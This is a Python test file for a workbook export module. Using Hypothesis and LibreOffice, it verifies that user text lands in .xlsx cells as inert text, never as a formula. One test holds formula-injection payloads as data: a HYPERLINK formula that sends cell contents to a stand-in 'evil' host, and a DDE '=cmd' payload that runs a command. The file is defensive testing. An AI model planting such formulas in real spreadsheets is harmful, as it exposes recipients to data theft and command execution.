"""Cells of the workbooks we hand out: any text stays text, and any text can be written."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from sync.domain.text import FORBIDDEN
from sync.xlsx import MAX_CELL_UNITS, cell_text, row, sheet_title, xml_text
from tests.hostile_text import FORMULAS, HOSTILE

# What XML 1.0 (and so an .xlsx) can hold, spelled as the XML specification does.
# What a cell keeps: what user text may hold (the gate's one rule), which lies within
# what XML can carry.
XML_CHAR = re.compile(
    f"(?!{FORBIDDEN.pattern})[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
PIECES = ["\x00", "\x01", "\x07", "\x1b", "\x7f", "\x85", "\ud800", "\udfff", "\ufffe",
          "\uffff", "\r", "\r\n", "\n", "\t", "=", "+", "-", "@", "＝", "#N/A", "'", "_x0041_",
          "\U0001f600", *HOSTILE]
texts = st.lists(st.one_of(st.characters(exclude_categories=()), st.sampled_from(PIECES)),
                 max_size=12).map("".join)


def book_of(values: list[Any], *, write_only: bool) -> bytes:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def formulas_in(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(archive.read(name).count(b"<f") for name in archive.namelist()
                   if name.startswith("xl/worksheets/"))


def read_back(data: bytes) -> list[tuple[Any, str]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [(c.value, c.data_type) for r in sheet.iter_rows() for c in r]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(values=st.lists(texts, min_size=1, max_size=4), write_only=st.booleans())
def test_any_text_is_written_as_text_and_reads_back_without_only_what_xml_cannot_hold(
        values: list[str], write_only: bool) -> None:
    data = book_of(values, write_only=write_only)
    assert formulas_in(data) == 0
    # Trailing empty cells are not stored at all.
    cells = read_back(data) + [(None, "n")] * len(values)
    for value, (stored, data_type) in zip(values, cells, strict=False):
        assert data_type != "f"
        if cell_text(value):
            assert (stored, data_type) == (cell_text(value), "s")
        else:
            assert stored is None
    # Only what user text may not hold is gone; line breaks read back as the file keeps
    # them.
    for value in values:
        kept = "".join(XML_CHAR.findall(value)).replace("\r\n", "\n").replace("\r", "\n")
        assert cell_text(value) == kept


@given(text=texts)
def test_cleaning_is_idempotent_and_leaves_clean_text_alone(text: str) -> None:
    once = cell_text(text)
    assert cell_text(once) == once
    assert xml_text(xml_text(text)) == xml_text(text)
    assert all(XML_CHAR.fullmatch(c) for c in once)


@given(text=texts)
def test_any_community_name_makes_a_sheet_title_openpyxl_and_excel_accept(text: str) -> None:
    title = sheet_title(text)
    assert 1 <= len(title) <= 31
    assert not re.search(r"[\\*?:/\[\]]", title) and title[0] != "'" and title[-1] != "'"
    book = Workbook()
    book.active.title = title
    book.save(io.BytesIO())


def test_a_formula_looking_title_keeps_every_character_and_is_no_formula() -> None:
    for write_only in (False, True):
        data = book_of([*FORMULAS, 3, None], write_only=write_only)
        assert formulas_in(data) == 0
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        first = next(sheet.iter_rows())
        assert [c.value for c in first][:len(FORMULAS)] == [cell_text(f) for f in FORMULAS]
        assert all(c.data_type == "s" and c.quotePrefix for c in first[:len(FORMULAS)])
        assert (first[len(FORMULAS)].value, first[len(FORMULAS)].data_type) == (3, "n")


def test_text_beyond_excels_cell_limit_is_cut_at_the_limit_in_utf16_units() -> None:
    for text in ("字" * 40_000, "\U0001f600" * 20_000, "a" + "\U0001f600" * 16_383 + "b"):
        units = len(cell_text(text).encode("utf-16-le")) // 2
        assert MAX_CELL_UNITS - 1 <= units <= MAX_CELL_UNITS
        assert text.startswith(cell_text(text))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_as_typed_and_evaluates_nothing(tmp_path: Path) -> None:
    values = ["=1+1", '=HYPERLINK("http://evil/?x="&A1,"点我")', "=cmd|' /C calc'!A0"]
    (tmp_path / "book.xlsx").write_bytes(book_of(values, write_only=True))
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         # Comma-separated, quoted with ", in UTF-8 (76).
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
         "--outdir", str(tmp_path), str(tmp_path / "book.xlsx")],
        check=True, capture_output=True, timeout=120)
    csv_text = (tmp_path / "book.csv").read_text(encoding="utf-8").strip()
    assert csv_text == "=1+1,\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"点我\"\")\"," \
                       "=cmd|' /C calc'!A0"


def test_every_sheet_the_server_writes_appends_its_rows_through_the_cell_helper() -> None:
    """A new export cannot forget the rule: workbooks are built in two modules, every row
    they append goes through ``row``, and nothing writes CSV (which would need its own
    neutralising of formula starts)."""
    root = Path(__file__).parent.parent / "sync"
    sources = {p.relative_to(root).as_posix(): p.read_text(encoding="utf-8")
               for p in root.rglob("*.py")}
    assert sorted(name for name, text in sources.items() if "Workbook(" in text) == [
        "console/excel.py", "evaluation/excel.py"]
    for name in ("console/excel.py", "evaluation/excel.py"):
        appends = re.findall(r"\.append\((.{0,4})", sources[name])
        assert appends and set(appends) == {"row("}, name
        assert not re.search(r"\.cell\([^)]*value=", sources[name]), name
    assert not [name for name, text in sources.items()
                if re.search(r"csv\.(?:writer|DictWriter)", text)]
